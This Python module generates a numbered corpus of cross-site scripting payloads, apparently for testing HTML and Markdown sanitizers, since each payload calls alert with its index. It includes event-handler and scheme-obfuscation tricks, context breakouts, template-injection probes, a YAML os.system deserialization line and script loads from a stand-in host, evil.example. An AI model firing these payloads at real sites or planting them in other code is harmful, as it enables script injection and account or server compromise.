"""Attempts to smuggle a script into a page, composed from what browsers and Markdown engines have fallen for.

Every attempt calls `alert` with its own number, so that a page that runs one says which.
"""

from __future__ import annotations

from itertools import product

# Elements that run what an attribute says, without help or with a little.
_HANDLED = [
    ("img src=x", "onerror"),
    ("img srcset=x", "onerror"),
    ("image href=x", "onerror"),
    ("svg", "onload"),
    ("svg/", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("video><source", "onerror"),
    ("audio src=x", "onerror"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("iframe", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("style", "onload"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a tabindex=1 autofocus", "onfocus"),
    ("div contenteditable autofocus", "onfocus"),
    ("marquee", "onstart"),
    ("math href=x", "onfocus"),
    ("p style=animation:x", "onanimationstart"),
    ("xss id=x tabindex=1", "onfocus"),
]
# What stands between an attribute's name and its value, and around the value.
_SPELLINGS = ("{h}={c}", '{h}="{c}"', "{h}='{c}'", "{h}\t=\n{c}", "{H}={c}", "/{h}={c}/")

# Ways out of where a text may have been put.
_BREAKOUTS = (
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</h1>",
    "</a>",
    "</li></ul>",
    "</td></tr></table>",
    "<!--",
    "<![CDATA[",
    "\\",
    "&quot;>",
    "&#34;&#62;",
)
_CORES = (
    "<script>{c}</script>",
    "<img src=x onerror={c}>",
    "<svg><script>{c}</script></svg>",
    " onmouseover={c} autofocus onfocus={c} x=",
)

_SCHEMES = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    " javascript:{c}",
    "\tjavascript:{c}",
    "java\tscript:{c}",
    "java\nscript:{c}",
    "java\rscript:{c}",
    "\x01javascript:{c}",
    "javascript\t:{c}",
    "javascript&colon;{c}",
    "javascript&#58;{c}",
    "javascript&#x3a;{c}",
    "javascript&#0000058{c}",
    "&#106;avascript:{c}",
    "&#x6A&#x61vascript:{c}",
    "java&Tab;script:{c}",
    "java&NewLine;script:{c}",
    "javascript%3A{c}",
    "javascript:%61lert(1)//{c}",
    "javascript://example.org/%0a{c}",
    "javascript:/*--></title></style></script>*/{c}",
    "feed:javascript:{c}",
    "view-source:javascript:{c}",
    "vbscript:{c}",
    "livescript:{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{c}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{c}'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{c}</script>",
    "blob:https://example.org/{c}",
    "filesystem:https://example.org/{c}",
    "//evil.example/{c}.js",
    "\\\\evil.example\\{c}",
    "/\\evil.example/{c}",
    'https://example.org/"onmouseover={c} x="',
    "https://example.org/'><img src=x onerror={c}>",
    "https://example.org/`onmouseover={c}`",
    "x:{c}",
)

# For templates, stylesheets, Markdown and other readers on the way.
_LANGUAGES = (
    "{{{{ 7*7 }}}}<script>{c}</script>",
    "{{% raw %}}<script>{c}</script>{{% endraw %}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}<img src=x onerror={c}>",
    "${{<script>{c}</script>}}",
    "<%= {c} %><script>{c}</script>",
    "<style>@import 'javascript:{c}';</style>",
    "<style>*{{background:url('javascript:{c}')}}</style>",
    '<p style="background:url(javascript:{c})">x</p>',
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<base href='javascript:{c}//'>",
    "<form action='javascript:{c}'><button autofocus>x</button></form>",
    "<button formaction='javascript:{c}'>x</button>",
    "<isindex action='javascript:{c}' type=image>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<iframe src='javascript:parent.{c}'></iframe>",
    "<object data='javascript:{c}'></object>",
    "<svg><a xlink:href='javascript:{c}'><text>x</text></a></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onload to={c}></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={c}/>#x'></svg>",
    "<svg><foreignObject><script>{c}</script></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={c}>",
    "<math><maction actiontype=statusline xlink:href='javascript:{c}'>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<template><script>{c}</script></template>",
    "<script\x0c>{c}</script>",
    "<script/x>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<<script>{c}//<</script>",
    "<script>{c}",
    "<img src=x onerror={c}",
    "<img src=x onerror={c}//",
    "\ufeff<script>{c}</script>",
    "<\x00script>{c}</script>",
    "\u003cscript\u003e{c}\u003c/script\u003e",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{c}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{c}%3C/script%3E",
    "＜script＞{c}＜/script＞",
    "[x](javascript:{c})",
    "[x](<javascript:{c}>)",
    "[x](java\\script:{c})",
    '[x]( javascript:{c} "t")',
    "![x](javascript:{c})",
    '![x"onerror="{c}](x)',
    '![x](x "a" onerror={c} "")',
    "![x](x){{ onerror={c} }}",
    "[x](x){{ onmouseover={c} }}",
    "[x][y]\n\n[y]: javascript:{c}",
    "<javascript:{c}>",
    "`<script>{c}</script>`",
    "*<script>{c}</script>*",
    "~~~\n<script>{c}</script>",
    "x | <script>{c}</script> | y",
    "- <script>{c}</script>",
    "# <script>{c}</script>",
    "!!python/object/apply:os.system [{c}]",
    "&anchor <script>{c}</script>",
    "\u2028<script>{c}</script>",
    "\u202e<script>{c}</script>",
    "\x02{c}\x03",
    "\x02wzxhzdk:0\x03<script>{c}</script>",
    "\x02amp\x03lt;script>{c}</script>",
)


def attempts() -> list[str]:
    """Return all attempts; the place of one in the list is the number it calls `alert` with."""
    handlers = [
        f"<{element} {spelling}>".replace("{H}", handler.upper()).replace("{h}", handler)
        for (element, handler), spelling in product(_HANDLED, _SPELLINGS)
    ]
    broken_out = [breakout + core for breakout, core in product(_BREAKOUTS, _CORES)]
    others = [form.replace("{{", "{").replace("}}", "}") for form in (*_SCHEMES, *_LANGUAGES)]
    forms = [*handlers, *broken_out, *others]
    return [form.replace("{c}", f"alert({number})") for number, form in enumerate(forms)]
